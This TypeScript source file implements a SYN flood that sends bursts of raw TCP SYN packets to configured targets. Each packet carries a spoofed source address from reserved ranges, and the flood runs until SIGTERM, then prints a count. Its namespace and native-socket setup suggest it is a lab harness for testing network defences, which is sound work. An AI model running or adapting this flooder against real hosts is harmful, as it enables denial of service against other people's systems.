/**
 * A SYN flood from addresses of others: each packet has another source, 198.18.0.0/16 or 2001:db8:66::/112, and nobody there answers.
 * Reads a FloodRequest as JSON from its first argument, sends by a device of its network namespace until SIGTERM and prints how many.
 */
import { setTimeout as sleep } from 'node:timers/promises';
import { ifindexOf, PacketSocket, VIRTIO_HEADER_BYTES } from '../../../native/index.ts';
import { build, concat, eth, ip, tcp } from '../packet.ts';

export interface FloodRequest {
	readonly device: string;
	/** Of the device and of the router behind it. */
	readonly macs: { readonly src: string; readonly dst: string };
	readonly targets: readonly { readonly host: string; readonly port: number }[];
	/** Packets to each target at a time, and the pause after them. */
	readonly burst: number;
	readonly pauseMs: number;
}

const { device, macs, targets, burst, pauseMs } = JSON.parse(process.argv[2] ?? '{}') as FloodRequest;
const header = new Uint8Array(VIRTIO_HEADER_BYTES);
const ifindex = ifindexOf(device);
const socket = new PacketSocket({ ifindex: ifindexOf('lo'), mark: 0 }, () => undefined);

function sourceOf(n: number, v6: boolean): string {
	return v6 ? `2001:db8:66::${(n & 0xffff).toString(16)}` : `198.18.${(n >> 8) & 255}.${n & 255}`;
}

function syn(n: number, { host, port }: FloodRequest['targets'][number]): Uint8Array {
	const source = sourceOf(n, host.includes(':'));
	return build(eth(macs), ip(source, host), tcp({ sport: 1024 + (n % 64_000), dport: port, flags: 'S', seq: n }));
}

let stopped = false;
process.once('SIGTERM', () => {
	stopped = true;
});
let sent = 0;
for (let n = 0; !stopped; await sleep(pauseMs)) {
	for (const end = n + burst; n < end; n++) {
		for (const target of targets) socket.send(ifindex, concat(header, syn(n, target)));
		sent += targets.length;
	}
}
socket.close();
process.stdout.write(`${sent}\n`, () => process.exit(0));
